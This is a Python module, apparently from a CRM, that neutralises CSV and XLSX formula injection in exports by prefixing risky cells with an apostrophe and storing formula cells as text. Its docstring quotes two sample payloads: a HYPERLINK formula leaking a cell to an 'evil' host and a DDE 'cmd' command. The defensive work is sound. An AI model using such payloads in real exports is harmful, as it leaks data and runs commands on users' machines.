"""Exports that cannot run code: CSV and XLSX cells that look like formulas stay text.

A customer named ``=HYPERLINK("http://evil/?"&A1,"x")`` or ``+cmd|' /C calc'!A0`` would run as
a formula when a planner opens an export in Excel or WPS (OWASP "CSV injection"). Every file
GCRM writes for people goes through here:

* **CSV**: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  gets a leading apostrophe (OWASP's advice: spreadsheets show it as text; numbers, including
  negative ones, are numbers and stay as they are).
* **XLSX**: a workbook is written normally, then every cell that openpyxl would store as a
  formula is stored as a string (:func:`neutralise`), so the text is shown exactly as it is.
  GCRM writes no formulas of its own in exports.

>>> inert_text("=1+2"), inert_text("-2+3"), inert_text("王伟"), inert_text(-2.5)
("'=1+2", "'-2+3", '王伟', -2.5)
"""

from __future__ import annotations

import io

import pandas as pd

#: first characters that make a spreadsheet read a cell as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_text(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _is_text(col: pd.Series) -> bool:
    return col.dtype == object or pd.api.types.is_string_dtype(col)


def _csv_cell(value: object) -> object:
    value = inert_text(value)
    # pandas quotes a field holding "\n" but not one holding a lone "\r", which would split
    # the row in a spreadsheet: line breaks are written as "\n"
    if isinstance(value, str) and "\r" in value:
        return value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def csv_text(df: pd.DataFrame, **kwargs: object) -> str:
    """``df.to_csv`` with every text cell (and column name) unable to start a formula
    (``index=False`` unless given)."""
    kwargs.setdefault("index", False)
    out = df.copy()
    for col in out.columns:
        if _is_text(out[col]):
            out[col] = out[col].map(_csv_cell)
    out.columns = [inert_text(c) for c in out.columns]
    return out.to_csv(**kwargs)


def csv_bytes(df: pd.DataFrame) -> bytes:
    """CSV for spreadsheets: UTF-8 with a BOM (Excel then opens Chinese text right)."""
    return csv_text(df).encode("utf-8-sig")


def neutralise(workbook) -> int:
    """Store every formula cell of an openpyxl ``workbook`` as text; returns how many."""
    n = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    n += 1
    return n


def xlsx_bytes(df: pd.DataFrame, sheet: str = "data") -> bytes:
    """One sheet holding ``df``, with no live formulas."""
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        df.to_excel(xw, sheet_name=sheet, index=False)
        neutralise(xw.book)
    return buf.getvalue()
